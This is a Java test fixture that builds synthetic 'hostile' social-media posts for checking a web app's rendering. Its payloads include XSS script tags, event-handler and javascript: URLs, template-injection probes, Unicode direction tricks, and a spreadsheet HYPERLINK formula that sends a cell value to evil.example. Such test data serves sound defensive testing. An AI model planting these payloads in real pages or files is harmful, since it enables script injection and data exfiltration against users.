package refrain.web;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import refrain.corpora.Account;
import refrain.corpora.Post;
import refrain.corpora.PostId;

/** Posts that try to do something other than be read. */
final class HostilePosts {
  private HostilePosts() {}

  static List<Post> all() {
    List<String> texts =
        List.of(
            "Gun violence in America <script>alert('script ran')</script> never ends",
            "Gun violence <img src=x onerror=\"alert('handler ran')\"> <svg onload=alert(1)> <a href=\"javascript:alert(2)\">click</a>",
            "Gun violence \u202Eelbisrever si siht\u202C and this is not \u2066isolated\u2069 \u200Bhidden\u200B \u0007bell \u0000nul",
            "Gun violence " + "a".repeat(10_000) + " end of the long word",
            "Gun violence Z\u0321\u0357\u035B\u0343\u0304\u0350\u0360a\u0317\u0341\u0347\u0342\u0338l\u0328\u0334\u0310\u0346\u0352g\u0322\u0334\u0353\u0363\u0364\u0365o"
                + "\u0336\u0337\u0338\u0310".repeat(30),
            "Gun violence 👨‍👩‍👧‍👦 🏴\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F 👍🏽 lone \uD83D surrogate",
            "Gun violence ${7*7} {{7*7}} @param String x !{unsafe} <%= 1 %> \"><script>alert(3)</script>",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Gun violence\")",
            "مرحبا Gun violence עברית then 中文 then العربية 123");
    List<Post> posts = new ArrayList<>();
    for (int i = 0; i < texts.size(); i++) posts.add(post(i, texts.get(i)));
    return posts;
  }

  private static Post post(int i, String text) {
    return Post.of(new PostId("telegram", "hostile/" + i + "?x=<b>&y=%2F;..#" + i), text)
        .account(
            new Account(
                "evil",
                "<img src=x onerror=alert(4)>",
                "\u202Eevil\"onmouseover=\"alert(5)" + i,
                null,
                null))
        .lang(i % 2 == 0 ? "en" : "\"><script>alert(6)</script>")
        .createdAt(Instant.parse("2021-0" + (i + 1) + "-03T10:00:00Z"))
        .url(i % 2 == 0 ? "javascript:alert(7)" : "http://tracker.example/pixel.png?id=" + i)
        .collection("hostile \"><b>")
        .synthetic(true)
        .build();
  }
}
